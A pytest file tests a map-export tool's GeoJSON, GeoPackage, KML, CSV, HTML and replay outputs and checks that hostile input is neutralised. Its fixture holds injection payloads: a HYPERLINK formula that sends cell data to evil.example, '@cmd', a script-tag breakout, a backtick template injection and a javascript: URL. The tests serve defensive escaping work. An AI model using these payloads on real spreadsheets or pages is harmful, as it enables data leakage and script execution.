"""Data exports, replays and the `frontline export` / `frontline replay` commands.

Every file type is read back for real: GeoJSON and KML parse, the GeoPackage's
layers read back with pyogrio, the CSV holds no live formula, the GIF has one
frame per date, and a failed write leaves no file behind.
"""

import csv
import html
import io
import json
import os
import xml.etree.ElementTree as ET

import pandas as pd
import pyogrio
import pytest
from PIL import Image

import geodata.files as files
import geodata.render as render
from geodata import Dataset
from geodata.cli import main
from geodata.export import (
    EXPORT_FORMATS,
    export_state,
    neutralise_csv_cell,
    to_csv,
    to_geojson,
    to_gpkg,
    to_html,
    to_kml,
)
from geodata.files import write_atomic
from geodata.io import events_frame, places_frame
from geodata.replay import (
    TooManyFrames,
    VideoUnavailable,
    render_replay,
    replay_dates,
)
from geodata.scene import build_scene
from geodata.territory import front_lines, territories
from geodata.timeline import change_dates

DATE = "2016-03-27"
KML = "{http://www.opengis.net/kml/2.2}"

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SCRIPT = '</script><script>alert("x")</script> & <b>'
BACKTICK = "`${alert(1)}`\\"


@pytest.fixture(scope="module")
def scene(builtin):
    return build_scene(builtin, DATE)


@pytest.fixture(scope="module")
def evil():
    """A dataset whose texts try formulas, HTML, script and template injection."""
    places = pd.DataFrame(
        [
            ["evil-1", FORMULA, "+SUM(1,1)", "", "35.95", "39.01", "SY", "Raqqa", "test"],
            ["evil-2", SCRIPT, "@cmd", "", "33.51", "36.29", "SY", "Damascus", "test"],
            ["evil-3", BACKTICK, "-2+3", "", "36.34", "43.13", "IQ", "Nineveh", "test"],
            ["plain", "Plain town", "", "", "34.56", "38.28", "SY", "Homs", "test"],
        ],
        columns=["id", "name", "name_ar", "aliases", "lat", "lon", "country", "governorate",
                 "coord_source"],
    )  # fmt: skip
    rows = [
        ["e1", "evil-1", "initial", "2012-01-01", "", "", "", "", "SYGOV", "", FORMULA,
         "javascript:alert(1)", ""],
        ["e2", "evil-1", "capture", "2014-01-14", "", "", "", "SYGOV", "ISIS", "", SCRIPT,
         "https://example.org/?a=1&b=<2>", ""],
        ["e3", "evil-2", "initial", "2012-01-01", "", "", "", "", "SYGOV", "", BACKTICK, "", ""],
        ["e4", "evil-3", "initial", "2012-01-01", "", "", "", "", "IQGOV", "", "=1+1", "", ""],
        ["e5", "plain", "initial", "2012-01-01", "", "", "", "", "SYGOV", "", "ok", "", ""],
        ["e6", "plain", "contest", "2015-05-13", "", "", "", "SYGOV", "ISIS", "", "ok", "", ""],
    ]  # fmt: skip
    events = pd.DataFrame(
        rows,
        columns=["event_id", "place_id", "kind", "date", "date_precision", "end_date",
                 "end_precision", "from_faction", "to_faction", "certainty", "source_title",
                 "source_url", "note"],
    )  # fmt: skip
    return Dataset(places_frame(places), events_frame(events), name="evil")


@pytest.fixture(scope="module")
def evil_scene(evil):
    return build_scene(evil, "2015-06-01")


# --------------------------------------------------------------------------- GeoJSON


def test_geojson_layers_and_counts(builtin, scene):
    doc = json.loads(to_geojson(scene, dataset=builtin))
    assert doc["type"] == "FeatureCollection" and doc["date"] == DATE
    layers = pd.Series([f["properties"]["layer"] for f in doc["features"]]).value_counts()
    assert layers["place"] == len(builtin.places)
    assert layers["territory"] == len(territories(builtin, DATE))
    assert layers["frontline"] == len(front_lines(builtin, DATE))
    palmyra = next(f for f in doc["features"] if f["properties"].get("id") == "palmyra")
    props = palmyra["properties"]
    assert props["controller"] == "SYGOV" and props["since"] == DATE
    assert props["source_url"].startswith("http")
    # RFC 7946: lon, lat.
    assert palmyra["geometry"]["coordinates"] == [38.284, 34.5624]


# --------------------------------------------------------------------------- GeoPackage


def test_gpkg_layers_read_back_with_pyogrio(builtin, scene, tmp_path):
    path = tmp_path / "state.gpkg"
    path.write_bytes(to_gpkg(scene, dataset=builtin))
    layers = dict(pyogrio.list_layers(path))
    assert layers == {
        "places": "Point",
        "territories": "MultiPolygon",
        "frontlines": "MultiLineString",
    }
    places = pyogrio.read_dataframe(path, layer="places")
    assert len(places) == len(builtin.places)
    assert places.crs.to_epsg() == 4326
    assert set(places.columns) >= {"id", "name", "controller", "status", "since", "geometry"}
    terr = pyogrio.read_dataframe(path, layer="territories")
    assert len(terr) == len(territories(builtin, DATE))
    assert set(terr["faction"]) == set(territories(builtin, DATE)["faction"])
    fronts = pyogrio.read_dataframe(path, layer="frontlines")
    assert len(fronts) == len(front_lines(builtin, DATE))


def test_gpkg_with_empty_layers(builtin, tmp_path):
    path = tmp_path / "empty.gpkg"
    # No faction shown: no territory and no front line, the layers still there.
    path.write_bytes(to_gpkg(build_scene(builtin, "2011-01-01", factions=[])))
    assert {name for name, _ in pyogrio.list_layers(path)} == {
        "places",
        "territories",
        "frontlines",
    }
    assert len(pyogrio.read_dataframe(path, layer="territories")) == 0


# --------------------------------------------------------------------------- KML


def test_kml_parses_with_one_placemark_per_place(builtin, scene):
    root = ET.fromstring(to_kml(scene, dataset=builtin))
    assert root.tag == f"{KML}kml"
    folders = {f.findtext(f"{KML}name"): f for f in root.iter(f"{KML}Folder")}
    places = folders["Places"].findall(f"{KML}Placemark")
    assert len(places) == len(builtin.places)
    assert len(folders["Territories (estimated)"].findall(f"{KML}Placemark")) == len(
        territories(builtin, DATE)
    )
    styles = {s.get("id") for s in root.iter(f"{KML}Style")}
    for mark in places:
        assert mark.findtext(f"{KML}styleUrl")[1:] in styles
    palmyra = next(m for m in places if m.findtext(f"{KML}name") == "Palmyra")
    description = palmyra.findtext(f"{KML}description")
    assert "Syrian government" in description and "27 March 2016" in description
    assert palmyra.findtext(f"{KML}Point/{KML}coordinates") == "38.28400,34.56240"


def test_kml_escapes_data(evil, evil_scene):
    raw = to_kml(evil_scene, dataset=evil)
    root = ET.fromstring(raw)  # parses: XML-escaped
    marks = {m.findtext(f"{KML}name"): m for m in root.iter(f"{KML}Placemark")}
    assert {FORMULA, SCRIPT, BACKTICK} <= set(marks)
    description = marks[SCRIPT].findtext(f"{KML}description")
    # The description is HTML for Google Earth: the data inside it is escaped.
    assert "<script>" not in description and "&lt;script&gt;" in description
    # A non-web "source URL" never becomes a link.
    assert "javascript:" not in marks[FORMULA].findtext(f"{KML}description")


# --------------------------------------------------------------------------- CSV


def test_csv_has_every_place(builtin, scene):
    text = to_csv(scene, dataset=builtin).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(builtin.places)
    palmyra = next(r for r in rows if r["id"] == "palmyra")
    assert palmyra["controller"] == "SYGOV" and palmyra["since"] == DATE
    assert float(palmyra["lat"]) == pytest.approx(34.5624)
    assert palmyra["name_ar"] == "تدمر"


def test_csv_has_no_live_formulas(evil, evil_scene):
    raw = to_csv(evil_scene, dataset=evil)
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    numeric = {header.index("lat"), header.index("lon")}
    for row in body:
        for i, cell in enumerate(row):
            if i in numeric:
                float(cell)
                continue
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (header[i], cell)
    by_id = {r[0]: dict(zip(header, r, strict=True)) for r in body}
    assert by_id["evil-1"]["name"] == "'" + FORMULA
    assert by_id["evil-1"]["name_ar"] == "'+SUM(1,1)"
    assert by_id["evil-2"]["name_ar"] == "'@cmd"
    assert by_id["evil-3"]["name_ar"] == "'-2+3"
    assert by_id["evil-3"]["source_title"] == "'=1+1"
    assert by_id["evil-2"]["name"] == SCRIPT  # not a formula: left as it is


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
     ("\rx", "'\rx"), ("a=1", "a=1"), ("", ""), ("Raqqa", "Raqqa")],
)  # fmt: skip
def test_neutralise_csv_cell(value, expected):
    assert neutralise_csv_cell(value) == expected


# --------------------------------------------------------------------------- HTML


def test_html_map_is_standalone_with_our_borders(builtin, scene):
    page = to_html(scene, dataset=builtin).decode("utf-8")
    assert page.lstrip().lower().startswith("<!doctype html>")
    assert "leaflet" in page.lower() and "L.map(" in page
    assert "jquery" not in page.lower()  # Leaflet alone
    assert "Control of towns, 27 March 2016" in page
    assert "Natural Earth" in page
    assert page.count("L.geoJson(") + page.count("L.geoJSON(") >= len(scene.borders)
    assert page.count("L.circleMarker(") == len(builtin.places)


def _bound_html(page: str) -> list[str]:
    """The first argument of every bindTooltip/bindPopup call, decoded as JSON."""
    decoder = json.JSONDecoder()
    found = []
    for call in ("bindTooltip(", "bindPopup("):
        start = 0
        while (i := page.find(call, start)) >= 0:
            j = i + len(call)
            while page[j].isspace():
                j += 1
            value, end = decoder.raw_decode(page, j)  # a JSON string, not a template literal
            found.append(value)
            start = end
    return found


def test_html_escapes_data(evil, evil_scene):
    page = to_html(evil_scene, dataset=evil).decode("utf-8")
    assert "<script>alert" not in page
    assert "</script><script>" not in page
    assert "javascript:alert" not in page
    bound = _bound_html(page)
    assert len(bound) >= 2 * len(evil.places)
    assert html.escape(SCRIPT) in bound  # the tooltip of evil-2, escaped
    assert not any("<script" in b or SCRIPT in b for b in bound)
    # Backticks only appear inside those JSON strings, where they are inert.
    assert page.count("`") == sum(b.count("`") for b in bound)


# --------------------------------------------------------------------------- dispatch


def test_export_state_formats(builtin):
    assert set(EXPORT_FORMATS) == {"png", "svg", "pdf", "html", "geojson", "gpkg", "kml", "csv"}
    with pytest.raises(ValueError, match="expected a format .*got 'xls'"):
        export_state(builtin, DATE, "xls")


def test_write_atomic_replaces_and_cleans_up(tmp_path, monkeypatch):
    target = tmp_path / "out.bin"
    write_atomic(target, b"first")
    write_atomic(target, b"second")
    assert target.read_bytes() == b"second"

    def fail(src, dst):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(files.os, "replace", fail)
    with pytest.raises(OSError):
        write_atomic(target, b"third")
    assert target.read_bytes() == b"second"
    assert os.listdir(tmp_path) == ["out.bin"]


# --------------------------------------------------------------------------- replay


def test_replay_dates(builtin):
    month = replay_dates(builtin, "2016-01-31", "2016-05-15", step="month")
    assert [d.strftime("%m-%d") for d in month] == ["01-31", "02-29", "03-31", "04-30", "05-15"]
    week = replay_dates(builtin, "2016-01-01", "2016-01-29", step="week")
    assert len(week) == 5 and week[-1] == pd.Timestamp("2016-01-29")
    event = replay_dates(builtin, "2016-01-01", "2016-12-31", step="event")
    changes = change_dates(builtin)
    inner = changes[(changes > "2016-01-01") & (changes < "2016-12-31")]
    assert list(event) == [pd.Timestamp("2016-01-01"), *inner, pd.Timestamp("2016-12-31")]
    assert len(replay_dates(builtin, DATE, DATE, step="event")) == 1
    with pytest.raises(ValueError, match="after the end"):
        replay_dates(builtin, "2017-01-01", "2016-01-01")
    with pytest.raises(ValueError, match="expected a step"):
        replay_dates(builtin, "2016-01-01", "2017-01-01", step="day")


def test_gif_has_one_frame_per_date(builtin):
    calls = []
    gif = render_replay(builtin, "2016-01-01", "2016-03-27", step="month", dpi=72,
                        progress=lambda i, n: calls.append((i, n)))  # fmt: skip
    image = Image.open(io.BytesIO(gif))
    assert image.format == "GIF" and image.n_frames == 4
    assert image.size[0] == 7 * 72
    assert calls == [(0, 4), (1, 4), (2, 4), (3, 4), (4, 4)]
    image.seek(3)
    assert image.info["duration"] >= 2500  # the last frame lingers


def test_replay_frame_cap(builtin):
    with pytest.raises(TooManyFrames, match="choose a coarser step \\(month\\)"):
        render_replay(builtin, "2015-01-01", "2015-12-31", step="week", max_frames=10)


def test_mp4_without_imageio_ffmpeg(builtin, monkeypatch):
    import geodata.replay as replay

    monkeypatch.setattr(replay, "mp4_available", lambda: False)
    with pytest.raises(VideoUnavailable, match="imageio-ffmpeg"):
        render_replay(builtin, "2016-01-01", "2016-02-01", fmt="mp4", dpi=72)


def test_mp4(builtin):
    pytest.importorskip("imageio_ffmpeg")
    mp4 = render_replay(builtin, "2016-01-01", "2016-02-01", fmt="mp4", dpi=72)
    assert mp4[4:8] == b"ftyp"


# --------------------------------------------------------------------------- CLI


def run(capsys, *argv):
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


SIGNATURES = {
    "png": lambda b: b.startswith(b"\x89PNG\r\n\x1a\n"),
    "svg": lambda b: ET.fromstring(b).tag.endswith("svg"),
    "pdf": lambda b: b.startswith(b"%PDF-"),
    "html": lambda b: b"L.map(" in b,
    "geojson": lambda b: json.loads(b)["type"] == "FeatureCollection",
    "gpkg": lambda b: b.startswith(b"SQLite format 3\x00"),
    "kml": lambda b: ET.fromstring(b).tag == f"{KML}kml",
    "csv": lambda b: b.decode("utf-8-sig").startswith("id,name,"),
}


@pytest.mark.parametrize("fmt", list(SIGNATURES))
def test_cli_export_each_format(capsys, tmp_path, fmt):
    out = tmp_path / f"state{EXPORT_FORMATS[fmt].extension}"
    code, stdout, err = run(capsys, "export", "--date", DATE, "--format", fmt, "--out", out,
                            "--dpi", "72")  # fmt: skip
    assert code == 0, err
    assert SIGNATURES[fmt](out.read_bytes())
    assert f"wrote {out}" in stdout
    assert os.listdir(tmp_path) == [out.name]  # no temporary file left


def test_cli_export_format_from_suffix_and_json(capsys, tmp_path):
    out = tmp_path / "map.svg"
    code, stdout, _ = run(capsys, "export", "--date", DATE, "--out", out, "--json",
                          "--extent", "syria")  # fmt: skip
    assert code == 0
    assert json.loads(stdout) == {
        "path": str(out),
        "format": "svg",
        "date": DATE,
        "bytes": out.stat().st_size,
    }


@pytest.mark.parametrize(
    ("argv", "needle"),
    [
        (["--extent", "mars"], "expected an extent"),
        (["--extent", "0,0,1,1"], "outside the mapped area"),
        (["--dpi", "50"], "between 72 and 300"),
        (["--dpi", "many"], "expected a resolution"),
        (["--format", "xls"], "invalid choice: 'xls'"),
    ],
)
def test_cli_export_bad_arguments_exit_2(capsys, tmp_path, argv, needle):
    with pytest.raises(SystemExit) as exc:
        main(["export", "--date", DATE, "--out", str(tmp_path / "m.png"), *argv])
    assert exc.value.code == 2
    err = capsys.readouterr().err
    assert needle in err and "Traceback" not in err
    assert os.listdir(tmp_path) == []


@pytest.mark.parametrize(
    ("out", "code", "needle"),
    [
        ("map.xyz", 2, "cannot tell the format from the suffix '.xyz'"),
        ("no-such-folder/map.png", 2, "no such folder"),
        (".", 2, "is a folder"),
    ],
)
def test_cli_export_bad_out(capsys, tmp_path, monkeypatch, out, code, needle):
    monkeypatch.chdir(tmp_path)
    got, stdout, err = run(capsys, "export", "--date", DATE, "--out", out)
    assert got == code and stdout == ""
    assert needle in err and "Traceback" not in err
    assert os.listdir(tmp_path) == []


def test_cli_export_unwritable_folder(capsys, tmp_path, monkeypatch):
    # As root, chmod does not stop writes: stand in for a read-only folder.
    real_access = os.access
    monkeypatch.setattr(os, "access", lambda p, mode: False if str(p) == str(tmp_path)
                        else real_access(p, mode))  # fmt: skip
    code, _, err = run(capsys, "export", "--date", DATE, "--out", tmp_path / "m.png")
    assert code == 1 and "is not writable" in err
    assert os.listdir(tmp_path) == []


def test_cli_failed_render_leaves_no_file(capsys, tmp_path, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("renderer crashed")

    monkeypatch.setattr(render, "render_map", broken)
    out = tmp_path / "m.png"
    with pytest.raises(RuntimeError):
        main(["export", "--date", DATE, "--out", str(out)])
    assert os.listdir(tmp_path) == []


def test_cli_failed_write_keeps_the_old_file(capsys, tmp_path, monkeypatch):
    out = tmp_path / "m.csv"
    out.write_bytes(b"old")

    def full(src, dst):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(files.os, "replace", full)
    code, _, err = run(capsys, "export", "--date", DATE, "--out", out)
    assert code == 1 and "cannot write" in err and "No space left" in err
    assert out.read_bytes() == b"old"
    assert os.listdir(tmp_path) == ["m.csv"]


def test_cli_replay_gif(capsys, tmp_path):
    out = tmp_path / "replay.gif"
    code, stdout, err = run(capsys, "replay", "--start", "2016-01-01", "--end", "2016-03-01",
                            "--step", "month", "--out", out, "--dpi", "72")  # fmt: skip
    assert code == 0, err
    assert Image.open(out).n_frames == 3
    assert "3 frames" in stdout
    assert "rendering frames" in err and "3/3" in err


@pytest.mark.parametrize(
    ("argv", "needle"),
    [
        (["--start", "2016-01-01", "--end", "2015-01-01"], "is after --end"),
        (["--start", "2012-01-01", "--end", "2019-12-31", "--step", "week"],
         "the limit is 400; choose a coarser step (month)"),
    ],
)  # fmt: skip
def test_cli_replay_errors(capsys, tmp_path, argv, needle):
    code, _, err = run(capsys, "replay", *argv, "--out", tmp_path / "r.gif")
    assert code == 2 and needle in err and "Traceback" not in err
    assert os.listdir(tmp_path) == []


def test_cli_replay_needs_gif_or_mp4(capsys, tmp_path):
    code, _, err = run(capsys, "replay", "--start", "2016-01-01", "--end", "2016-02-01",
                       "--out", tmp_path / "r.avi")  # fmt: skip
    assert code == 2 and "expected one of .gif, .mp4" in err
